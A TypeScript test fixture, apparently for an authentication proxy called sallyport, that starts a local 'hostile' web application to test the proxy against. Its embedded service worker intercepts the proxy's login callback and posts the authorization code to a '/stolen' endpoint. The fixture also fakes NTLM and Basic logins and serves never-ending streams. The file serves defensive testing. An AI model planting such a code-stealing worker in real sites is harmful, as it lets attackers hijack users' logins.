import { createHash } from 'node:crypto';
import { once } from 'node:events';
import { createServer, type IncomingMessage, type ServerResponse } from 'node:http';
import type { AddressInfo } from 'node:net';

/** Passes on what opens a page, as workers of honest applications do, until a page tells it to keep the codes of logins. */
const worker = `
let steals = false;
self.addEventListener('install', () => self.skipWaiting());
self.addEventListener('activate', (event) => event.waitUntil(clients.claim()));
self.addEventListener('message', ({ ports: [port] }) => { steals = true; port.postMessage('ready'); });
self.addEventListener('fetch', (event) => {
  const { pathname, searchParams } = new URL(event.request.url);
  if (steals && pathname === '/.sallyport/callback') {
    const told = fetch('/stolen', { method: 'POST', body: searchParams.get('code') });
    event.respondWith(told.then(() => new Response('stolen')));
  } else if (event.request.mode === 'navigate') event.respondWith(fetch(event.request));
});`;

const page = '<!doctype html><title>app</title><h1>The application</h1><a href="/.sallyport/logout">Log out</a>';

/** Authenticates a connection: after the last message of NTLM, all that comes on the connection is its user's. */
function createConnectionLogin() {
  const people = new WeakMap<object, string>();
  const seen: string[] = [];
  const answer = (request: IncomingMessage, response: ServerResponse) => {
    const [scheme = '', message = ''] = (request.headers.authorization ?? '').split(' ');
    if (scheme !== '') seen.push(scheme);
    const step = scheme === 'NTLM' ? Buffer.from(message, 'base64').readUInt32LE(8) : 0;
    if (step === 3) people.set(request.socket, 'alice');
    const user = people.get(request.socket) ?? (scheme === 'Basic' ? 'alice by Basic' : undefined);
    if (user !== undefined || request.url!.endsWith('?')) return void response.end(`you are ${user ?? 'unknown'}`);
    // The challenge of MS-NLMP, 2.2.1.2: no target, and the flags for Unicode and NTLM.
    const challenge = Buffer.concat([Buffer.from('NTLMSSP\0\x02\0\0\0'), Buffer.alloc(36)]);
    challenge.writeUInt32LE(0x201, 20);
    response.writeHead(401, {
      'www-authenticate': step === 1 ? `NTLM ${challenge.toString('base64')}` : ['NTLM', 'Basic realm="app"'],
    });
    response.end('you are unknown');
  };
  return { seen, answer };
}

/**
 * Starts a web application whose worker takes what it can get. `stolen` has the codes that it got. `/own-login` asks for
 * NTLM or Basic, `/own-login?` only says who it is, and `schemes` has what browsers chose. `/endless` and WebSockets never end by themselves.
 */
export async function startHostileApp() {
  const stolen: string[] = [];
  const login = createConnectionLogin();
  const server = createServer((request, response) => {
    if (request.url!.startsWith('/own-login')) return login.answer(request, response);
    if (request.url === '/endless') {
      response.writeHead(200, { 'content-type': 'text/event-stream' });
      const timer = setInterval(() => response.write('data: tick\n\n'), 50);
      return void response.on('close', () => clearInterval(timer));
    }
    if (request.url!.endsWith('/sw.js')) {
      response.writeHead(200, { 'content-type': 'text/javascript', 'service-worker-allowed': '/' });
      return void response.end(worker);
    }
    if (request.url === '/stolen')
      return void request.on('data', (code: Buffer) => stolen.push(code.toString())).on('end', () => response.end());
    response.writeHead(200, { 'content-type': 'text/html' });
    response.end(page);
  }).listen(0, '127.0.0.1');
  server.on('upgrade', (request, socket) => {
    const key = `${request.headers['sec-websocket-key']}258EAFA5-E914-47DA-95CA-C5AB0DC85B11`; // RFC 6455, 4.2.2
    socket.on('error', () => {}).on('end', () => socket.end());
    socket.write('HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n');
    socket.write(`Sec-WebSocket-Accept: ${createHash('sha1').update(key).digest('base64')}\r\n\r\n`);
    socket.resume();
  });
  await once(server, 'listening');
  const { port } = server.address() as AddressInfo;
  return { address: `http://127.0.0.1:${port}`, stolen, schemes: login.seen, close: () => server.close() };
}
